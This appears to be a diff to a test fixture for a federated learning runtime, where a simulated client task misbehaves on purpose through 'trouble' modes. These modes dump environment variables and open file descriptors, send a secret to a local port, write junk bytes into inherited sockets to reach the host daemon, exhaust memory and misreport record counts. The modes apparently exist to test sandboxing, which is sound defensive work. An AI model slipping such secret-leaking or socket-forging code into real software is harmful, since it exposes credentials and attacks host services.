@@ -4,6 +4,8 @@
 its process id once it is there.
 """
 
+# ruff: noqa: T201  # tasks print
+
 from __future__ import annotations
 
 import ctypes
@@ -57,7 +59,8 @@ class LinearSession:
         import numpy as np
 
         size = self._x.shape[1] + 1 + int(self._parameters.get("padding", 0))
-        return np.random.default_rng(self._seed).normal(size=size).astype(np.float32)
+        theta: Vector = np.random.default_rng(self._seed).normal(size=size).astype(np.float32)
+        return theta
 
     def train(self, theta: Vector, round_number: int, rng_seed: int, proximal_mu: float) -> tuple[Vector, TrainReport]:
         import numpy as np
@@ -74,7 +77,8 @@ class LinearSession:
         if self._parameters.get("trouble") == "short":
             update = update[1:]
         loss = float("nan") if self._parameters.get("trouble") == "lost" else self._losses(weights).sum()
-        return update, TrainReport(len(self._x), float(loss))
+        records = -1 if self._parameters.get("trouble") == "liar" else len(self._x)
+        return update, TrainReport(records, float(loss))
 
     def evaluate(self, theta: Vector) -> ClassificationTally:
         import numpy as np
@@ -95,6 +99,8 @@ class LinearSession:
     def _features(self) -> npt.NDArray[np.float64]:
         import numpy as np
 
+        if self._center is None:
+            raise RuntimeError("not begun")
         return np.hstack([self._x - self._center, np.ones((len(self._x), 1))])
 
     def _losses(self, weights: npt.NDArray[np.float64]) -> npt.NDArray[np.float64]:
@@ -147,8 +153,11 @@ def _go_wrong(parameters: Mapping[str, Any]) -> None:
         bytearray(8 << 30)
     if trouble == "look around":
         print("environment:", sorted(os.environ.items()))
-        names = [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")]
-        print("files:", sorted(os.readlink(name) for name in names if os.path.exists(name)))
+        print("files:", sorted(str(file.readlink()) for file in Path("/proc/self/fd").iterdir() if file.exists()))
+    if trouble == "forge":  # speaks to the daemon past its host
+        for file in Path("/proc/self/fd").iterdir():
+            if file.exists() and str(file.readlink()).startswith("socket:"):
+                os.write(int(file.name), b"\xff" * 100)
     if trouble == "call home":
         socket.create_connection(("127.0.0.1", parameters["port"]), timeout=5).sendall(SECRET.encode())
     if trouble == "read keys":
